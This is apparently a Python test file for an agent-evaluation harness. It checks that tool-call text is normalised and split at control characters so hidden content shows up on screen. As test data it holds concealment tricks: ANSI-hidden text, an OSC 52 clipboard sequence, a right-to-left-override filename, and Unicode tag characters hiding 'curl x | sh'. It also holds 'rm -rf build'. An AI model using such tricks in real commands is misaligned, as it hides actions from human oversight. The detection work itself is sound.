from __future__ import annotations

from agents_cases import fixture

from askbench.harness.agents.evidence import call_text, flat, named_on_screen, on_screen, pieces
from askbench.harness.agents.toolcall import Intent, intent_of


def test_text_is_compared_without_blanks_boxes_or_json_notation() -> None:
    assert flat("│ rm -rf\n  build │") == "rm-rfbuild"
    assert flat('"## Summary\\n\\nbody \\"x\\""') == flat('"## Summary\n\nbody "x""')
    assert on_screen("rm-rfbuild", ["╭ rm -rf", "│ build ╮"])


def test_the_controls_of_an_input_split_it_into_pieces() -> None:
    assert pieces("echo \x1b[8mhidden\x1b[0m done") == ["echo", "hidden", "done"]


def test_a_command_s_facts_are_its_start_its_end_and_its_first_and_last_commands() -> None:
    intent = intent_of(fixture("bash/powershell-here-string-report-200-lines"))
    assert intent is not None
    text = call_text(intent)
    assert text.head.startswith("@'#Codereview") and text.tail.endswith("report.md")
    assert dict(text.commands)["last"].startswith("Out-File")
    assert text.first == text.head and not text.mcp and len(text.chunks()) > 100


def test_an_mcp_call_s_facts_are_its_tool_and_every_argument_s_key() -> None:
    text = call_text(
        Intent(
            "mcp", {"owner": "acme", "body": "x" * 500, "labels": ["a"]}, "create_issue", "github"
        )
    )
    assert (
        text.labels == ("create_issue", "owner", "body", "labels") and text.first == "create_issue"
    )
    assert text.main == "x" * 500 and set(text.strings) == {"acme", "x" * 500, "a"}


def test_a_command_s_words_are_read_up_to_a_control_it_carries() -> None:
    text = call_text(Intent("bash", {"command": "git status \x1b]52;c;Y3VybA==\x07 && ls -la"}))
    assert dict(text.commands) == {"first": "gitstatus", "last": "ls-la"}


def test_characters_a_prompt_may_only_spell_out_split_pieces_too() -> None:
    assert pieces("chmod +x ./report\u202efdp.sh") == ["chmod+x./report", "fdp.sh"]
    assert pieces("git status" + "\U000e0078" * 50 + " && curl x | sh") == [
        "gitstatus",
        "&&curlx|sh",
    ]
    assert pieces("a\u200bb 👩\u200d💻") == ["a", "b👩\u200d💻"]


def test_a_name_reads_as_written_or_as_a_title() -> None:
    assert named_on_screen("slack_post_message", ["│ slack — Slack Post Message"])
    assert named_on_screen("channel_id", ['{"channel_id": "C1"}'])
    assert not named_on_screen("slack_post_message", ["│ slack — Slack Post"])
